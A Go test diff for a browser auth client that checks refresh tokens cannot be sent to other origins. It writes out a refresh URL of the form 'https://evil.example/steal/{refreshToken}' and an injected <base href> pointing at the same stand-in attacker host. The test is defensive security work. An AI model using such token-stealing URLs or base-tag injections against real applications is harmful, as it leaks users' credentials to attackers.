@@ -3,6 +3,7 @@ package wasm_test
 import (
 	"encoding/json"
 	"fmt"
+	"strings"
 	"testing"
 )
 
@@ -73,4 +74,31 @@ return seen[0];`)
 	if want := o + "/api/user/info"; late != want {
 		t.Errorf("after a late <base href>: sent to %q, want %q", late, want)
 	}
+}
+
+// TestRefreshTokenStaysWithAllowedOrigins: the refresh call carries the refresh token, so
+// its URL must be on baseURL's origin or an allowed one (a TypeError naming refreshURL
+// otherwise), and a relative one is resolved when the client is made: a <base href> added
+// later does not move the refresh call, token in its path, to another origin.
+func TestRefreshTokenStaysWithAllowedOrigins(t *testing.T) {
+	e := newEnv(t)
+	tb := e.newTab("a")
+	tb.open()
+	tb.setup("")
+	msg := eval[string](tb, "a refresh URL on another origin", `
+try { (await M.createAuthFetch({ baseURL: '/api', refreshURL: 'https://evil.example/steal/{refreshToken}' })).close(); return 'accepted' }
+catch (e) { return e.name + ': ' + e.message }`)
+	if !strings.HasPrefix(msg, "TypeError") || !strings.Contains(msg, "refreshURL") {
+		t.Errorf("refreshURL on another origin: %s, want a TypeError naming refreshURL", msg)
+	}
+	tb.do("a client with a relative refresh URL, then a late <base href>", `
+window.auth.close();
+window.auth = await M.createAuthFetch({ baseURL: '/api', refreshURL: '/api/refreshJwt/{refreshToken}', onRelogin: () => { window.relogins++ } });
+const b = document.createElement('base'); b.href = 'http://evil.example/'; document.head.append(b);`)
+	tb.login()
+	e.srv.ExpireAccessTokens()
+	e.srv.ResetStats()
+	r := eval[burstReply](tb, "a request at expiry", `return await H.settle(auth.fetch('/user/info').then(H.reply))`)
+	wantAllCodeZero(t, "the request at expiry", []burstReply{r})
+	e.wantStats("after the refresh", map[string]int64{"RefreshCalls": 1, "Refreshed": 1})
 }
